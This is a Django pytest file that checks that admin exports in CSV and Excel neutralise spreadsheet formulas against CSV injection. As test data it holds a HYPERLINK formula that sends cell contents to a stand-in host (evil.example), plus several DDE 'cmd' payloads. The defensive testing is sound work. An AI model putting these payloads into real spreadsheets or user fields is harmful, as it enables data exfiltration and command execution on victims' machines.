"""Exports never hand a spreadsheet a live formula (CSV injection), from every admin that exports, in CSV and Excel."""
import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from allocation.models import AllocationRun
from allocation.services import allocation_run
from inventory_alloc.admin_base import neutralised
from orders.models import Customer, Order, Payment
from stock.models import Item, Lot

EVIL = '=HYPERLINK("http://evil.example/?x="&A1)'
VARIANTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


@pytest.fixture
def evil_books(widget_example, admin_user):
    """The worked example with formulas in every text a user can type, allocated once."""
    Item.objects.filter(pk=widget_example["item"].pk).update(name=EVIL, category=VARIANTS[1])
    Lot.objects.filter(reference="L1").update(reference=VARIANTS[3], note=VARIANTS[2])
    o1 = widget_example["orders"]["O1"]
    Customer.objects.filter(pk=o1.customer_id).update(name=EVIL, address=VARIANTS[4], notes=VARIANTS[1],
                                                      code=VARIANTS[3])
    Payment.objects.create(customer_id=o1.customer_id, amount=Decimal("10.00"), due_date=date(2026, 1, 31))
    Order.objects.filter(pk=o1.pk).update(order_number=EVIL)
    allocation_run(method="FIFO", orders=[o1], as_of=date(2026, 1, 25), user=admin_user)
    AllocationRun.objects.update(error=EVIL)
    admin_user.username = VARIANTS[2]
    admin_user.save()


def exporting_admins() -> list:
    return [(model, model_admin) for model, model_admin in admin.site._registry.items() if isinstance(model_admin, ExportMixin)]


def test_the_admins_that_export_are_the_ones_this_file_checks():
    assert {model._meta.label for model, _admin in exporting_admins()} == {
        "stock.Item", "stock.Lot", "orders.Customer", "orders.Order", "orders.Payment", "allocation.AllocationRun",
        "allocation.AllocationResult",
    }


def cells(content: bytes, file_format: int) -> list[object]:
    if file_format == 0:
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [], formulas
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("file_format", [0, 1], ids=["csv", "xlsx"])
@pytest.mark.parametrize("label", ["stock.Item", "stock.Lot", "orders.Customer", "orders.Order", "orders.Payment",
                                   "allocation.AllocationRun", "allocation.AllocationResult"])
def test_an_export_writes_formulas_as_text(label, file_format, admin_client, evil_books):
    # given: every column of the model's export
    model, model_admin = next((m, a) for m, a in exporting_admins() if m._meta.label == label)
    resource = model_admin.get_export_resource_classes(None)[0]
    prefix = resource.__name__.lower()
    fields = {f"{prefix}_{field.column_name}": "on" for field in resource().get_export_fields()}
    # when
    response = admin_client.post(f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/",
                                 {"format": str(file_format), "resource": "0", **fields})
    # then
    assert response.status_code == 200, response.content[:500]
    values = [value for value in cells(response.content, file_format) if isinstance(value, str)]
    assert values, "nothing exported"
    dangerous = [value for value in values if value.startswith(("=", "+", "@", "\t")) or
                 (value.startswith("-") and not value.lstrip("-").replace(".", "", 1).isdigit())]
    assert dangerous == []
    assert any(value.startswith("'") for value in values), "no evil text reached the export"


@pytest.mark.parametrize(("cell", "safe"), [
    (EVIL, "'" + EVIL), ("-12.50", "-12.50"), ("+81 3 5555", "'+81 3 5555"), ("-", "'-"), ("plain", "plain"),
    (12, 12), (None, None), ("\r=1", "'\r=1"),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_compute_it(cell, safe):
    assert neutralised(cell) == safe
